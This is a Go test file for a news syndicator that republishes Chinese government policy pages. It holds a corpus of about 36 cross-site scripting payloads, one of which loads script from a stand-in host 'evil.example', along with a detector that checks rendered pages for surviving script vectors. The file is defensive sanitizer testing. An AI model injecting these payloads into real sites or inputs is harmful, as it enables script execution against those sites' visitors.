package main

import (
	"bytes"
	"cmp"
	"net/url"
	"strings"
	"testing"
	"time"

	"github.com/gyeco/syndicator/config"
	"github.com/gyeco/syndicator/crawler/extract"
	"github.com/gyeco/syndicator/sinks/site/render"
	"github.com/gyeco/syndicator/syndicator"
	"golang.org/x/net/html"
)

// xssPayloads is a corpus of script-injection tricks a compromised or
// careless source page could carry.
var xssPayloads = []string{
	`<script>alert(1)</script>`,
	`<SCRIPT SRC=//evil.example/x.js></SCRIPT>`,
	`<img src=x onerror=alert(1)>`,
	`<img src="javascript:alert(1)">`,
	`<IMG SRC=JaVaScRiPt:alert('XSS')>`,
	`<img src=&#106;&#97;&#118;&#97;&#115;&#99;&#114;&#105;&#112;&#116;&#58;alert(1)>`,
	`<a href="javascript:alert(1)">点击</a>`,
	`<a href="  JaVaScRiPt:alert(1)">点击</a>`,
	`<a href="jav&#x09;ascript:alert(1)">点击</a>`,
	`<a href="data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==">点击</a>`,
	`<a href="vbscript:msgbox(1)">点击</a>`,
	`<svg onload=alert(1)>`,
	`<svg><script>alert(1)</script></svg>`,
	`<math><mtext><table><mglyph><style><img src=x onerror=alert(1)>`,
	`<body onload=alert(1)>`,
	`<iframe src="javascript:alert(1)"></iframe>`,
	`<iframe srcdoc="<script>alert(1)</script>"></iframe>`,
	`<object data="javascript:alert(1)"></object>`,
	`<embed src="javascript:alert(1)">`,
	`<form action="javascript:alert(1)"><input type=submit></form>`,
	`<button formaction="javascript:alert(1)">x</button>`,
	`<meta http-equiv="refresh" content="0;url=javascript:alert(1)">`,
	`<base href="javascript:alert(1)//">`,
	`<div style="background:url(javascript:alert(1))">x</div>`,
	`<div style="width:expression(alert(1))">x</div>`,
	`<p style="display:none">隐藏文字</p>`,
	`<link rel=stylesheet href="javascript:alert(1)">`,
	`<table background="javascript:alert(1)"><tr><td>x</td></tr></table>`,
	`<details open ontoggle=alert(1)>`,
	`<video><source onerror="alert(1)"></video>`,
	`<input autofocus onfocus=alert(1)>`,
	`<marquee onstart=alert(1)>x</marquee>`,
	`"><script>alert(1)</script>`,
	`</p><script>alert(1)</script><p>`,
	`<noscript><p title="</noscript><img src=x onerror=alert(1)>">`,
	`<a href="&#0000106&#0000097&#0000118&#0000097&#0000115&#0000099&#0000114&#0000105&#0000112&#0000116&#0000058alert(1)">x</a>`,
}

// TestXSSCorpusNeverReachesSitePages passes each payload through
// extraction (with the gov.cn preset), the sanitizer and the renderer,
// in the body and in the title, and inspects the published page.
func TestXSSCorpusNeverReachesSitePages(t *testing.T) {
	if len(xssPayloads) < 30 {
		t.Fatalf("corpus has %d payloads, want at least 30", len(xssPayloads))
	}
	rule := config.Presets()["govcn-zuixin"].Detail
	ext := extract.New(nil)
	r, err := render.New(render.Site{Name: "贵阳市生态文明委员会", Columns: []render.Column{{ID: "zcwj", Name: "政策文件"}}})
	if err != nil {
		t.Fatal(err)
	}
	pageURL, _ := url.Parse("https://www.gov.cn/zhengce/content/202609/content_7080735.htm")
	for i, payload := range xssPayloads {
		src := `<html><head><title>关于` + payload + `的通知_国务院文件_中国政府网</title></head><body>` +
			`<table class="bd1"><tr><td><b>标　　题：</b></td><td>国务院关于` + payload + `的通知</td></tr>` +
			`<tr><td><b>发文字号：</b></td><td>国发〔2026〕1号</td></tr></table>` +
			`<div id="UCAP-CONTENT"><p>第一段。</p>` + payload + `<p>第二段。</p></div></body></html>`
		page, err := ext.Detail([]byte(src), "text/html; charset=utf-8", pageURL, rule)
		if err != nil {
			t.Fatalf("payload %d: %v", i, err)
		}
		it := syndicator.Item{
			ID: "0123456789abcdef0123456789abcdef", Source: "govcn-zuixin", URL: pageURL.String(),
			Title: cmp.Or(page.Title, "国务院关于印发的通知"), DocNumber: page.DocNumber, Issuer: "国务院",
			PublishedAt: time.Date(2026, 9, 11, 17, 0, 0, 0, syndicator.Shanghai), PublishedPrecision: syndicator.PrecisionSecond,
			Validity: syndicator.ValidityEffective, BodyHTML: page.BodyHTML, BodyText: page.BodyText, Revision: 1,
		}
		out, err := r.Article(&render.Article{Item: it, Column: "zcwj", SourceName: "中国政府网", PublishedAt: time.Now()})
		if err != nil {
			t.Fatalf("payload %d: render: %v", i, err)
		}
		if problems := scriptVectors(out); len(problems) > 0 {
			t.Errorf("payload %d %q survives into the site page: %v", i, payload, problems)
		}
	}
}

// scriptVectors parses a page and lists every way it could run script or
// hide text: script-capable elements, event handlers, script URLs, style
// attributes.
func scriptVectors(page []byte) []string {
	doc, err := html.Parse(bytes.NewReader(page))
	if err != nil {
		return []string{"unparseable: " + err.Error()}
	}
	var found []string
	var walk func(n *html.Node)
	walk = func(n *html.Node) {
		if n.Type == html.ElementNode {
			switch n.Data {
			case "script", "iframe", "object", "embed", "form", "base", "svg", "math", "input", "button", "frame", "frameset", "applet":
				found = append(found, "<"+n.Data+">")
			case "meta":
				for _, a := range n.Attr {
					if strings.EqualFold(a.Key, "http-equiv") {
						found = append(found, "<meta http-equiv>")
					}
				}
			}
			for _, a := range n.Attr {
				key := strings.ToLower(a.Key)
				val := strings.ToLower(strings.Map(func(r rune) rune {
					if r <= ' ' {
						return -1
					}
					return r
				}, a.Val))
				switch {
				case strings.HasPrefix(key, "on"):
					found = append(found, n.Data+"@"+key)
				case key == "style":
					found = append(found, n.Data+"@style")
				case key == "srcdoc":
					found = append(found, n.Data+"@srcdoc")
				case strings.HasPrefix(val, "javascript:") || strings.HasPrefix(val, "vbscript:") || strings.HasPrefix(val, "data:"):
					found = append(found, n.Data+"@"+key+"="+a.Val)
				}
			}
		}
		for c := n.FirstChild; c != nil; c = c.NextSibling {
			walk(c)
		}
	}
	walk(doc)
	return found
}

// TestScriptVectorsDetects keeps the checker honest: each payload, placed
// raw into a page, is caught.
func TestScriptVectorsDetects(t *testing.T) {
	caught := 0
	for _, p := range xssPayloads {
		if len(scriptVectors([]byte("<html><body>"+p+"</body></html>"))) > 0 {
			caught++
		}
	}
	// A few payloads are only dangerous in other contexts (e.g. the quote
	// breakout); most must be caught raw.
	if caught < len(xssPayloads)-4 {
		t.Errorf("checker catches %d of %d raw payloads", caught, len(xssPayloads))
	}
}
